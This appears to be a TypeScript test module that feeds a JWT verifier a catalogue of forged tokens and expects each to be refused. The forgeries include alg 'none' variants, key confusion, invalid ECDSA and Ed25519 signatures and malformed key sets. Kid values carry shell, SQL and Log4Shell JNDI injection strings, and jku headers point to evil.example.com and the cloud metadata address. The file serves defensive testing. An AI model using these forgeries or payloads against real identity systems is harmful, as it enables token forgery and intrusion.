// Class 2: the header chooses how it is verified, a signature that is none, and keys that no issuer should publish.

import { exportSPKI, importJWK, exportJWK } from 'jose';
import type { JWK } from 'jose';

import { createIssuer, createKey, signSegments } from '../support/issuer.ts';
import type { IssuerKey, TestIssuer } from '../support/issuer.ts';
import { claimsAt, group, usual } from './case.ts';
import type { HostileCase, HostileClass, Kit, World } from './case.ts';
import {
  bytes,
  ED25519_ORDER,
  hex,
  joined,
  negated,
  numberOf,
  P256_ORDER,
  partsOf,
  segment,
  signatureOf,
  signHmac,
  toDer,
  withSignature,
} from './forge.ts';
import type { Refusal } from './refusal.ts';

const NOT_ALLOWED: Refusal = { reason: 'algorithm_not_allowed' };
const HEADER: Refusal = { reason: 'token_header_not_accepted' };
const TYPE: Refusal = { reason: 'token_type_not_accepted' };
const SIGNATURE: Refusal = { reason: 'signature_invalid', fetches: 'issuer' };
const UNKNOWN: Refusal = { reason: 'unknown_kid', fetches: 'issuer' };
const UNAVAILABLE: Refusal = {
  status: 503,
  error: 'temporarily_unavailable',
  reason: 'keys_unavailable',
  fetches: 'issuer',
};

const rsa = (kit: Kit): Promise<World> => usual(kit, { issuer: { alg: 'RS256' } });

/** A good token but for its header; signed after it was changed. */
function headed(
  name: string,
  taught: string,
  header: Readonly<Record<string, unknown>>,
  refused: Refusal,
  twin?: Readonly<Record<string, unknown>>,
): HostileCase {
  return {
    name,
    taught,
    attack: ({ token }) => token({}, { header }),
    refused,
    ...(twin === undefined ? {} : { twin: ({ token }: World) => token({}, { header: twin }) }),
  };
}

/** A token forged with a key of the sender's own, under a header that leads to it; the twin is a true token with that header. */
function embedded(name: string, taught: string, header: Readonly<Record<string, unknown>>): HostileCase {
  return {
    name,
    taught,
    attack: async ({ token, issuer }) => token({}, { header, key: await createKey(issuer.key.alg, issuer.key.kid) }),
    refused: SIGNATURE,
    twin: ({ token }) => token({}, { header }),
  };
}

const algorithms: readonly HostileCase[] = [
  ...['none', 'None', 'NONE', 'nOnE', ' none', 'none ', 'none\t'].map((alg): HostileCase => ({
    name: `alg ${JSON.stringify(alg)} without a signature`,
    taught: 'CVE-2015-9235, CVE-2020-28042 (alg none)',
    attack: (world) => `${segment({ alg, kid: 'key-1' })}.${segment(goodClaims(world))}.`,
    refused: NOT_ALLOWED,
  })),
  headed('alg none above a good signature', 'CVE-2018-1000531', { alg: 'none' }, NOT_ALLOWED),
  ...(['', 256, ['RS256'], { name: 'RS256' }, null, true, undefined] as const).map((alg) =>
    headed(`alg ${JSON.stringify(alg) ?? 'absent'}`, 'RFC 7515 §4.1.1', { alg }, { reason: 'token_malformed' }),
  ),
  ...[
    'rs256',
    'Rs256',
    'RS256 ',
    ' RS256',
    'RS256\0',
    'RS256\n',
    'none\0',
    'n\u043ene',
    'ＲＳ２５６',
    'RS256,HS256',
    'RSA-SHA256',
    'SHA256withRSA',
  ].map((alg) =>
    headed(
      `alg ${JSON.stringify(alg)}`,
      'CVE-2016-5431 (names are case-sensitive, RFC 7515 §4.1.1)',
      { alg },
      NOT_ALLOWED,
    ),
  ),
  ...[
    'RS384',
    'RS512',
    'PS256',
    'ES384',
    'ES512',
    'EdDSA',
    'Ed25519',
    'ES256K',
    'RS1',
    'HS1',
    'HS256',
    'HS384',
    'HS512',
    'dir',
    'A128KW',
    'RSA-OAEP',
    'PBES2-HS256+A128KW',
    'ML-DSA-44',
  ].map((alg) => headed(`alg ${alg}, which the provider does not allow`, 'RFC 8725 §3.1', { alg }, NOT_ALLOWED)),
  ...['constructor', '__proto__', 'toString', 'hasOwnProperty', 'x'.repeat(2_500)].map((alg) =>
    headed(`alg ${alg.slice(0, 20)}`, 'CVE-2022-23529 class (names of prototypes)', { alg }, NOT_ALLOWED),
  ),
  headed('alg ES256 over an RSA key', 'RFC 8725 §3.1', { alg: 'ES256' }, { reason: 'key_not_usable' }),
  ...Object.entries({
    'as PEM': async (key: JWK) => bytes(await pemOf(key)),
    'as PEM without its last line break': async (key: JWK) => bytes((await pemOf(key)).trimEnd()),
    'as PEM with carriage returns': async (key: JWK) => bytes((await pemOf(key)).replaceAll('\n', '\r\n')),
    'as the base64 inside its PEM': async (key: JWK) => bytes((await pemOf(key)).replace(/-----[^-]+-----|\s/g, '')),
    'as DER': async (key: JWK) =>
      Uint8Array.from(atob((await pemOf(key)).replace(/-----[^-]+-----|\s/g, '')), (char) => char.charCodeAt(0)),
    'as JWK': async (key: JWK) => bytes(JSON.stringify(key)),
    'as its modulus': async (key: JWK) => bytes(key.n ?? ''),
    'as nothing at all': async () => new Uint8Array(1),
  }).flatMap(([name, secretOf]) =>
    ['HS256', 'HS512'].map((alg): HostileCase => ({
      name: `${alg} whose secret is the RSA public key ${name}`,
      taught: 'CVE-2016-10555, CVE-2022-29217, CVE-2023-48238 (key confusion)',
      attack: async (world) =>
        signHmac(
          { alg, kid: 'key-1', typ: 'JWT' },
          goodClaims(world),
          await secretOf(world.issuer.key.publicJwk),
          `SHA-${alg.slice(2)}`,
        ),
      refused: NOT_ALLOWED,
    })),
  ),
];

const ATTACKER = 'https://evil.example.com';

const headers: readonly HostileCase[] = [
  {
    name: 'a jwk header with the key that signed it',
    taught: 'CVE-2018-0114, CVE-2024-54150 (embedded jwk)',
    attack: async (world) => {
      const own = await createKey('RS256', 'key-1');
      return world.token({}, { key: own, header: { jwk: own.publicJwk } });
    },
    refused: SIGNATURE,
    twin: ({ issuer, token }) => token({}, { header: { jwk: issuer.key.publicJwk } }),
  },
  // Some issuers put these into every token: a forged one is refused for its signature, and a true one passes.
  ...Object.entries({
    jku: `${ATTACKER}/keys`,
    x5u: `${ATTACKER}/chain.pem`,
    x5c: ['MIIB'],
    jwk: null,
  }).map(([name, value]) => embedded(`a ${name} header`, 'RFC 8725 §3.10', { [name]: value })),
  embedded('a jku at the metadata service', 'CVE-2018-1999024 class (SSRF by header)', {
    jku: 'http://169.254.169.254/latest/meta-data',
  }),
  ...([[], ['exp'], ['b64'], 'b64', null, ['http://example.invalid/UNDEFINED']] as const).map((crit) =>
    headed(`crit ${JSON.stringify(crit)}`, 'CVE-2025-59420 (Authlib ignores crit)', { crit }, HEADER),
  ),
  headed('b64 false with crit', 'RFC 7797, CVE-2025-59420', { b64: false, crit: ['b64'] }, HEADER),
  headed('b64 false without crit', 'RFC 7797 §6', { b64: false }, HEADER),
  headed('b64 true', 'RFC 7797', { b64: true }, HEADER),
  headed('a compressed payload', 'CVE-2024-33664 (zip bombs)', { zip: 'DEF' }, HEADER),
  headed('a nested token, cty JWT', 'RFC 7519 §5.2', { cty: 'JWT' }, HEADER),
  headed('a nested token, cty jwt', 'RFC 7519 §5.2', { cty: 'jwt' }, HEADER, {
    x5t: 'q6UQ3nB0',
    'x5t#S256': 'q6UQ3nB0',
  }),
  headed('no kid', 'contract §6', { kid: undefined }, { reason: 'kid_missing' }),
  ...([null, 1, '', ['key-1'], { kid: 'key-1' }, true, 'k'.repeat(513), 'K'.repeat(2_900)] as const).map((kid) =>
    headed(`kid ${(JSON.stringify(kid) ?? '').slice(0, 40)}`, 'RFC 7515 §4.1.4', { kid }, HEADER),
  ),
  headed('kid of 10 KB', 'RFC 7515 §4.1.4', { kid: 'k'.repeat(10_000) }, { reason: 'token_too_large' }),
  ...[
    '../../../../dev/null',
    "key-1' OR '1'='1",
    "x' UNION SELECT 'aaa",
    'key-1;rm -rf /',
    '| /usr/bin/id',
    'key-1\0',
    'KEY-1',
    'key-1 ',
    'key-1/../key-1',
    'http://169.254.169.254/',
    '__proto__',
    'constructor',
    'toString',
    'key-1\r\nx-injected: 1',
    '\u001B[31mred\u001B[0m',
    '</script><script>alert(1)</script>',
    '${jndi:ldap://evil.example.com/a}',
    'k'.repeat(512),
    'ｋｅｙ-1',
    '0',
  ].map((kid) =>
    headed(`kid ${JSON.stringify(kid).slice(0, 50)}`, 'CVE-2018-0114 class (kid injection)', { kid }, UNKNOWN),
  ),
  ...[
    'at+jwt',
    'application/at+jwt',
    'AT+JWT',
    'logout+jwt',
    'dpop+jwt',
    'secevent+jwt',
    'kb+jwt',
    'oauth-authz-req+jwt',
    'wit+jwt',
    'JWE',
    'JOSE',
    'JOSE+JSON',
    '',
    'JWT ',
    'jwt\0',
    'JWT;v=1',
    null,
    42,
    ['JWT'],
    'x'.repeat(2_000),
  ].map((typ) =>
    headed(`typ ${JSON.stringify(typ).slice(0, 40)}`, 'RFC 8725 §3.11 (cross-JWT confusion)', { typ }, TYPE, {
      typ: typ === null ? undefined : 'application/jwt',
    }),
  ),
];

const rsaSignatures: readonly HostileCase[] = [
  ...Object.entries({
    'with one bit flipped': (signature: Uint8Array) =>
      signature.map((byte, index) => (index === 100 ? byte ^ 1 : byte)),
    'of zeros': () => new Uint8Array(256),
    'of ones': () => new Uint8Array(256).fill(0xff),
    'that is the number one': () => joined(new Uint8Array(255), new Uint8Array([1])),
    'with a zero in front': (signature: Uint8Array) => joined(new Uint8Array(1), signature),
    'with a zero at the end': (signature: Uint8Array) => joined(signature, new Uint8Array(1)),
    'cut by a byte': (signature: Uint8Array) => signature.subarray(0, 255),
    'of one byte': () => new Uint8Array([1]),
    'of 4 KiB': () => new Uint8Array(4_096).fill(7),
    'twice in a row': (signature: Uint8Array) => joined(signature, signature),
  }).map(([name, forge]): HostileCase => ({
    name: `an RSA signature ${name}`,
    taught: 'Wycheproof rsa_signature_test',
    attack: async ({ token }) => {
      const good = await token();
      return withSignature(good, forge(signatureOf(good)));
    },
    refused: SIGNATURE,
  })),
  {
    name: 'a signature plus the modulus, the same number modulo n',
    taught: 'Wycheproof (signature not reduced)',
    attack: async ({ token, issuer }) => {
      const good = await token();
      const n = numberOf(decode(issuer.key.publicJwk.n ?? ''));
      const sum = (numberOf(signatureOf(good)) + n).toString(16);
      return withSignature(good, hex(sum.padStart(sum.length + (sum.length % 2), '0')));
    },
    refused: SIGNATURE,
  },
  ...['RS384', 'RS512', 'PS256'].map((alg): HostileCase => ({
    name: `a ${alg} signature of the right key under alg RS256`,
    taught: 'RFC 8725 §3.2',
    attack: async (world) => {
      const key = await asAlgorithm(world.issuer.key, alg);
      return signSegments({ alg: 'RS256', kid: 'key-1', typ: 'JWT' }, goodClaims(world), key);
    },
    refused: SIGNATURE,
  })),
  {
    name: "a stranger's signature under the issuer's kid",
    taught: 'RFC 7515 §6',
    attack: async ({ token }) => token({}, { key: await createKey('RS256', 'key-1') }),
    refused: SIGNATURE,
  },
  {
    name: "a stranger's key under a kid of its own",
    taught: 'RFC 7515 §6',
    attack: async ({ token }) => token({}, { key: await createKey('RS256', 'key-evil') }),
    refused: UNKNOWN,
  },
  {
    name: 'the payload of one good token under the signature of another',
    taught: 'RFC 7515 §5.2',
    attack: async ({ token }) => {
      const [one, other] = [partsOf(await token()), partsOf(await token())];
      return `${one[0]}.${one[1]}.${other[2]}`;
    },
    refused: SIGNATURE,
  },
  {
    name: 'a good signature under a header with one member more',
    taught: 'RFC 7515 §5.2',
    attack: async ({ token }) => {
      const [, payload, signature] = partsOf(await token());
      return `${segment({ alg: 'RS256', kid: 'key-1', typ: 'JWT', more: 1 })}.${payload}.${signature}`;
    },
    refused: SIGNATURE,
  },
  {
    name: 'a good signature over claims that say one character more',
    taught: 'RFC 7515 §5.2',
    attack: async (world) => {
      const [header, , signature] = partsOf(await world.token());
      return `${header}.${segment({ ...goodClaims(world), sub: 'project:acme:pipeline:deploy2' })}.${signature}`;
    },
    refused: SIGNATURE,
  },
  {
    name: 'header and payload in each other’s place',
    taught: 'RFC 7515 §7.1',
    attack: async ({ token }) => {
      const [header, payload, signature] = partsOf(await token());
      return `${payload}.${header}.${signature}`;
    },
    refused: { reason: 'token_malformed' },
  },
];

const ZERO = new Uint8Array(32);
const ONE = joined(new Uint8Array(31), new Uint8Array([1]));

const ecSignatures: readonly HostileCase[] = [
  ...Object.entries({
    'of zeros': () => joined(ZERO, ZERO),
    'with r zero': (raw: Uint8Array) => joined(ZERO, raw.subarray(32)),
    'with s zero': (raw: Uint8Array) => joined(raw.subarray(0, 32), ZERO),
    'with r and s equal to the order': () => joined(P256_ORDER, P256_ORDER),
    'with r equal to the order': (raw: Uint8Array) => joined(P256_ORDER, raw.subarray(32)),
    'with s equal to the order': (raw: Uint8Array) => joined(raw.subarray(0, 32), P256_ORDER),
    'with r and s one': () => joined(ONE, ONE),
    'of ones': () => new Uint8Array(64).fill(0xff),
    'with r and s swapped': (raw: Uint8Array) => joined(raw.subarray(32), raw.subarray(0, 32)),
    'in DER': (raw: Uint8Array) => toDer(raw),
    'of zeros in DER': () => hex('3006020100020100'),
    'cut by a byte': (raw: Uint8Array) => raw.subarray(0, 63),
    'with a zero in front': (raw: Uint8Array) => joined(new Uint8Array(1), raw),
    'with a zero at the end': (raw: Uint8Array) => joined(raw, new Uint8Array(1)),
    'each half padded to 48 bytes': (raw: Uint8Array) =>
      joined(new Uint8Array(16), raw.subarray(0, 32), new Uint8Array(16), raw.subarray(32)),
    'of 96 zeros': () => new Uint8Array(96),
    'of one zero': () => new Uint8Array(1),
    'with one bit flipped': (raw: Uint8Array) => raw.map((byte, index) => (index === 40 ? byte ^ 8 : byte)),
  }).map(([name, forge]): HostileCase => ({
    name: `an ECDSA signature ${name}`,
    taught: 'CVE-2022-21449 (psychic signatures), Wycheproof ecdsa_p1363',
    attack: async ({ token }) => {
      const good = await token();
      return withSignature(good, forge(signatureOf(good)));
    },
    refused: SIGNATURE,
    // The one malleation that ECDSA has by nature; single use copes with it (class 8).
    twin: async ({ token }) => {
      const good = await token();
      return withSignature(good, negated(signatureOf(good)));
    },
  })),
  headed('alg RS256 over a P-256 key', 'RFC 8725 §3.1', { alg: 'RS256' }, { reason: 'key_not_usable' }),
  headed('alg ES384 over a P-256 key', 'RFC 7518 §3.4', { alg: 'ES384' }, NOT_ALLOWED),
  {
    name: 'HS256 whose secret is the point of the public key',
    taught: 'CVE-2024-33663 (python-jose, ECDSA keys as secrets)',
    attack: (world) => {
      const { x = '', y = '' } = world.issuer.key.publicJwk;
      return signHmac(
        { alg: 'HS256', kid: 'key-1' },
        goodClaims(world),
        joined(new Uint8Array([4]), decode(x), decode(y)),
      );
    },
    refused: NOT_ALLOWED,
  },
];

const edSignatures: readonly HostileCase[] = Object.entries({
  'of zeros': () => new Uint8Array(64),
  'with s increased by the order': (raw: Uint8Array) => joined(raw.subarray(0, 32), plusOrder(raw.subarray(32))),
  'with the identity as R and zero as s': () => joined(new Uint8Array([1]), new Uint8Array(63)),
  'with its halves swapped': (raw: Uint8Array) => joined(raw.subarray(32), raw.subarray(0, 32)),
  'cut by a byte': (raw: Uint8Array) => raw.subarray(0, 63),
  'with a zero at the end': (raw: Uint8Array) => joined(raw, new Uint8Array(1)),
  'of ones': () => new Uint8Array(64).fill(0xff),
}).map(([name, forge]): HostileCase => ({
  name: `an Ed25519 signature ${name}`,
  taught: 'Wycheproof eddsa_test, CVE-2020-36843 (malleability)',
  attack: async ({ token }) => {
    const good = await token();
    return withSignature(good, forge(signatureOf(good)));
  },
  refused: SIGNATURE,
}));

/** What an issuer publishes, and the key that signs; the good key stays published unless `alone`. */
function published(
  name: string,
  taught: string,
  refused: Refusal,
  publish: (world: World) => Promise<{
    readonly keys: readonly unknown[];
    readonly key?: IssuerKey;
    readonly header?: Readonly<Record<string, unknown>>;
  }>,
): HostileCase {
  return {
    name,
    taught,
    refused,
    attack: async (world) => {
      const { keys, key = world.issuer.key, header = {} } = await publish(world);
      serve(world.issuer, JSON.stringify({ keys }));
      return world.token({}, { key, header });
    },
    twin: healed,
  };
}

/** The same issuer with a good set again, once it may be asked again. */
async function healed({ issuer, deployment, token }: World): Promise<string> {
  issuer.comeBack();
  deployment.clock.now += 31;
  return token();
}

function serve(issuer: TestIssuer, body: string): void {
  issuer.answer(issuer.jwksPath, () => new Response(body));
}

const cold = (kit: Kit): Promise<World> =>
  usual(kit, { warm: false, provider: { allowedAlgorithms: ['RS256', 'PS256', 'ES256', 'ES384'] } });

const sets: readonly HostileCase[] = [
  published(
    'keys when the set has only a symmetric one',
    'RFC 8725 §3.1 (oct in a public set)',
    UNAVAILABLE,
    async () => ({ keys: [{ kty: 'oct', k: 'c2VjcmV0', kid: 'key-1', alg: 'HS256' }] }),
  ),
  published('a token by a key for encryption', 'RFC 7517 §4.2', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('ES256', 'enc-1');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, use: 'enc' }], key };
  }),
  ...['null', '', 'SIG', ['sig'], 0].map((use) =>
    published(`a token by a key whose use is ${JSON.stringify(use)}`, 'RFC 7517 §4.2', UNKNOWN, async ({ issuer }) => {
      const key = await createKey('ES256', 'k-2');
      return { keys: [issuer.key.publicJwk, { ...key.publicJwk, use }], key };
    }),
  ),
  published('a token by a key that may only sign', 'RFC 7517 §4.3', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('ES256', 'k-2');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, use: undefined, key_ops: ['sign'] }], key };
  }),
  published(
    'RS256 by a key that says PS256',
    'RFC 8725 §3.1, CVE-2024-54150',
    { reason: 'key_not_usable', fetches: 'issuer' },
    async () => {
      const key = await createKey('RS256', 'rsa-1');
      return { keys: [{ ...key.publicJwk, alg: 'PS256' }], key };
    },
  ),
  published(
    'PS256 by a key that says RS256',
    'RFC 8725 §3.1',
    { reason: 'key_not_usable', fetches: 'issuer' },
    async () => {
      const key = await createKey('PS256', 'rsa-1');
      return { keys: [{ ...key.publicJwk, alg: 'RS256' }], key };
    },
  ),
  published('ES256 over a P-384 key', 'RFC 7518 §3.4', { reason: 'key_not_usable', fetches: 'issuer' }, async () => {
    const key = await createKey('ES384', 'ec-1');
    return { keys: [key.publicJwk], key, header: { alg: 'ES256' } };
  }),
  published('a key whose alg does not fit its curve', 'RFC 7518 §3.4', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('ES256', 'ec-1');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, alg: 'ES384' }], key };
  }),
  ...['secp256k1', 'P-256K', 'p-256', 'Ed448', 'X25519', '__proto__'].map((crv) =>
    published(`a key on the curve ${crv}`, 'RFC 7518 §6.2.1.1', UNKNOWN, async ({ issuer }) => {
      const key = await createKey('ES256', 'ec-1');
      return { keys: [issuer.key.publicJwk, { ...key.publicJwk, crv }], key };
    }),
  ),
  ...['rsa', 'ec', '', 'oct', 'constructor', null].map((kty) =>
    published(`a key of type ${JSON.stringify(kty)}`, 'RFC 7517 §4.1', UNKNOWN, async ({ issuer }) => {
      const key = await createKey('ES256', 'ec-1');
      return { keys: [issuer.key.publicJwk, { ...key.publicJwk, kty }], key };
    }),
  ),
  published('an RSA key of 1024 bits', 'RFC 7518 §3.3, CVE-2022-23541 class', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('RS256', 'weak-1');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, n: (key.publicJwk.n ?? '').slice(0, 171) }], key };
  }),
  published('an RSA key of 1024 bits, padded with zeros to 2048', 'RFC 7518 §6.3.1.1', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('RS256', 'weak-1');
    const half = decode(key.publicJwk.n ?? '').subarray(0, 128);
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, n: segment(joined(new Uint8Array(128), half)) }], key };
  }),
  published('an RSA key of 16,384 bits', 'CVE-2023-29409 (huge RSA keys)', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('RS256', 'huge-1');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, n: segment(new Uint8Array(2_048).fill(0xc1)) }], key };
  }),
  ...Object.entries({
    three: [3],
    'one, under which every signature is its message': [1],
    zero: [0],
    'sixty-five thousand, which is even': [0xfd, 0xe8],
    'of nine bytes': [1, 0, 0, 0, 0, 0, 0, 0, 1],
  }).map(([name, e]) =>
    published(
      `an RSA key with the exponent ${name}`,
      'CVE-2006-4339 (e=3), CVE-2023-46809 class',
      UNKNOWN,
      async ({ issuer }) => {
        const key = await createKey('RS256', 'e-1');
        return { keys: [issuer.key.publicJwk, { ...key.publicJwk, e: segment(new Uint8Array(e)) }], key };
      },
    ),
  ),
  published('a kid that two different keys have', 'contract §6, RFC 7517 §4.5', UNKNOWN, async ({ issuer }) => {
    const [one, two] = [await createKey('ES256', 'both'), await createKey('ES256', 'both')];
    return { keys: [one.publicJwk, issuer.key.publicJwk, two.publicJwk], key: one };
  }),
  published(
    'PS256 by the RSA key for RS256 that shares its kid with an EC key',
    'RFC 7517 §4.5',
    { reason: 'key_not_usable', fetches: 'issuer' },
    async ({ issuer }) => {
      const [one, two] = [await createKey('ES256', 'both'), await createKey('PS256', 'both')];
      return { keys: [one.publicJwk, { ...two.publicJwk, alg: 'RS256' }, issuer.key.publicJwk], key: two };
    },
  ),
  published(
    'RS256 by an RSA key without alg that shares its kid with another RSA key for RS256',
    'contract §6, RFC 7517 §4.5',
    { reason: 'key_not_usable', fetches: 'issuer' },
    async ({ issuer }) => {
      const [one, two] = [await createKey('RS256', 'both'), await createKey('RS256', 'both')];
      return { keys: [{ ...one.publicJwk, alg: undefined }, two.publicJwk, issuer.key.publicJwk], key: one };
    },
  ),
  published('a private member beside the same key without it', 'contract §6 (a lost key)', UNAVAILABLE, async () => {
    const { publicJwk } = await createKey('RS256', 'key-1');
    return {
      keys: [
        { ...publicJwk, d: null },
        { ...publicJwk, alg: 'RS512', d: 'AAAA' },
      ],
    };
  }),
  published('a set whose keys all share one kid', 'RFC 7517 §4.5', UNAVAILABLE, async ({ issuer }) => ({
    keys: [issuer.key.publicJwk, (await createKey('ES256', 'key-1')).publicJwk],
  })),
  published('a token whose key has no kid in the set', 'contract §6', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('ES256', 'unnamed');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, kid: undefined }], key };
  }),
  published('a token whose kid is a number in the set', 'RFC 7517 §4.5', UNKNOWN, async ({ issuer }) => {
    const key = await createKey('ES256', '7');
    return { keys: [issuer.key.publicJwk, { ...key.publicJwk, kid: 7 }], key };
  }),
  ...['d', 'p', 'qi', 'priv'].map((member) =>
    published(
      `a set that publishes the private member ${member}`,
      'contract §6 (a lost key)',
      UNAVAILABLE,
      async ({ issuer }) => ({
        keys: [issuer.key.publicJwk, { ...(await createKey('ES256', 'lost')).publicJwk, [member]: 'AAAA' }],
      }),
    ),
  ),
  published('a set of 201 keys', 'contract §6', UNAVAILABLE, async ({ issuer }) => ({
    keys: [...many(200), issuer.key.publicJwk],
  })),
  published('a point that is not on its curve', 'CVE-2015-7940 (invalid curve)', UNAVAILABLE, async ({ issuer }) => {
    const { y = '' } = issuer.key.publicJwk;
    const off = decode(y).map((byte, index) => (index === 5 ? byte ^ 1 : byte));
    return { keys: [{ ...issuer.key.publicJwk, y: segment(off) }] };
  }),
  published('a point at zero', 'CVE-2015-7940 (invalid curve)', UNAVAILABLE, async ({ issuer }) => ({
    keys: [{ ...issuer.key.publicJwk, x: segment(ZERO), y: segment(ZERO) }],
  })),
  published('coordinates of 31 bytes', 'RFC 7518 §6.2.1.2', UNAVAILABLE, async ({ issuer }) => ({
    keys: [{ ...issuer.key.publicJwk, x: segment(new Uint8Array(31).fill(1)) }],
  })),
  published('a key with certificates only', 'RFC 7517 §4.7', UNAVAILABLE, async () => ({
    keys: [{ kty: 'RSA', kid: 'key-1', x5c: ['MIIB'] }],
  })),
  published('a key that a jku inside the set points at', 'RFC 7517 §4', UNAVAILABLE, async () => ({
    keys: [{ kty: 'RSA', kid: 'key-1', jku: `${ATTACKER}/keys`, x5u: `${ATTACKER}/x` }],
  })),
  ...Object.entries({
    'is an empty list of keys': '{"keys":[]}',
    'has no list of keys': '{}',
    'is a list': '[]',
    'has an object of keys': '{"keys":{}}',
    'has null for keys': '{"keys":null}',
    'has keys that are no objects': '{"keys":[null,1,"key-1",[],true]}',
    'is a string': '"keys"',
    'is null': 'null',
    'is HTML': '<!doctype html><title>Sign in</title>',
    'is empty': '',
    'is an image': '\u0089PNG\r\n',
    'is deeply nested': '{"keys":'.repeat(5_000),
  }).map(([name, body]): HostileCase => ({
    name: `keys where the document ${name}`,
    taught: 'contract §6 (garbage is no set)',
    refused: UNAVAILABLE,
    attack: ({ issuer, token }) => {
      serve(issuer, body);
      return token();
    },
    twin: healed,
  })),
  {
    name: 'a set that lists its keys twice, the second time others',
    taught: 'RFC 8259 §4 (duplicate members)',
    refused: UNAVAILABLE,
    attack: async ({ issuer, token }) => {
      const evil = await createKey('ES256', 'key-1');
      serve(issuer, `{"keys":[${JSON.stringify(issuer.key.publicJwk)}],"keys":[${JSON.stringify(evil.publicJwk)}]}`);
      return token({}, { key: evil });
    },
    twin: healed,
  },
  {
    name: 'a key that names its modulus twice',
    taught: 'RFC 8259 §4 (duplicate members)',
    refused: UNAVAILABLE,
    attack: async ({ issuer, token }) => {
      const key = JSON.stringify(issuer.key.publicJwk);
      serve(issuer, `{"keys":[${key.slice(0, -1)},"x":"AAAA"}]}`);
      return token();
    },
    twin: healed,
  },
];

interface TwoIssuers extends World {
  readonly other: TestIssuer;
}

/** Two registered issuers with rules on the same subject, which share a kid. */
async function twoIssuers(kit: Kit): Promise<TwoIssuers> {
  const world = await usual(kit);
  const other = await createIssuer({ issuer: 'https://other.example.com' });
  world.deployment.connect(other);
  const provider = await kit.expectCreated(
    world.deployment.iam('POST', '/v1/federated-identity-providers', { name: 'other', providerIssuer: other.issuer }),
  );
  await kit.addIdentity(
    world.deployment,
    { ...world.joined, provider },
    { providerSubject: 'project:other:pipeline:deploy' },
  );
  return { ...world, other };
}

const crossed: readonly HostileCase<TwoIssuers>[] = [
  {
    name: "one issuer's key under another issuer's name, with the same kid",
    taught: 'RFC 8725 §3.8 (keys belong to an issuer)',
    attack: ({ token, other }) => token({}, { key: other.key }),
    refused: SIGNATURE,
  },
  {
    name: "one issuer's key under another issuer's name, with a kid of its own",
    taught: 'RFC 8725 §3.8',
    attack: async ({ token, other }) => {
      await other.rotate({ kid: 'other-key' });
      return token({}, { key: other.key });
    },
    refused: UNKNOWN,
  },
  {
    name: "a subject that only another issuer's rule accepts",
    taught: 'RFC 8725 §3.8',
    attack: ({ token }) => token({ sub: 'project:other:pipeline:deploy' }),
    refused: { reason: 'no_federated_identity' },
    twin: ({ deployment, other }) =>
      other.sign(claimsAt(deployment, other.issuer, { sub: 'project:other:pipeline:deploy' })),
  },
];

function goodClaims({ deployment, issuer }: World): Record<string, unknown> {
  return claimsAt(deployment, issuer.issuer);
}

async function pemOf(jwk: JWK): Promise<string> {
  const key = await importJWK(jwk, 'RS256');
  if (key instanceof Uint8Array) throw new TypeError('a symmetric key');
  return exportSPKI(key);
}

/** The same RSA key, signing in another way. */
async function asAlgorithm(key: IssuerKey, alg: string): Promise<IssuerKey> {
  const imported = await importJWK({ ...(await exportJWK(key.privateKey)), alg }, alg, { extractable: true });
  if (imported instanceof Uint8Array) throw new TypeError('a symmetric key');
  return { ...key, alg, privateKey: imported };
}

function plusOrder(littleEndian: Uint8Array): Uint8Array {
  const sum = numberOf(littleEndian.toReversed()) + numberOf(ED25519_ORDER.toReversed());
  return hex(sum.toString(16).padStart(64, '0')).toReversed();
}

function many(count: number): JWK[] {
  return Array.from({ length: count }, (_, index) => ({ kty: 'oct', k: 'AAAA', kid: `filler-${index}` }));
}

function decode(text: string): Uint8Array {
  return Uint8Array.from(atob(text.replaceAll('-', '+').replaceAll('_', '/')), (char) => char.charCodeAt(0));
}

export const algorithmAndKey: HostileClass = {
  title: 'Algorithm and key',
  about:
    'The header chooses how it is verified, a signature is none, or an issuer publishes what is no key. No address in a header is ever asked.',
  groups: [
    group({ title: 'algorithms', world: rsa, cases: algorithms }),
    group({ title: 'headers', world: rsa, cases: headers }),
    group({ title: 'RSA signatures', world: rsa, cases: rsaSignatures }),
    group({ title: 'ECDSA signatures', world: (kit) => usual(kit), cases: ecSignatures }),
    group({
      title: 'Ed25519 signatures',
      world: (kit) => usual(kit, { issuer: { alg: 'EdDSA' }, provider: { allowedAlgorithms: ['EdDSA'] } }),
      cases: edSignatures,
    }),
    group({ title: 'published sets', world: cold, fresh: 'case', cases: sets }),
    group({ title: 'two issuers', world: twoIssuers, cases: crossed }),
  ],
};
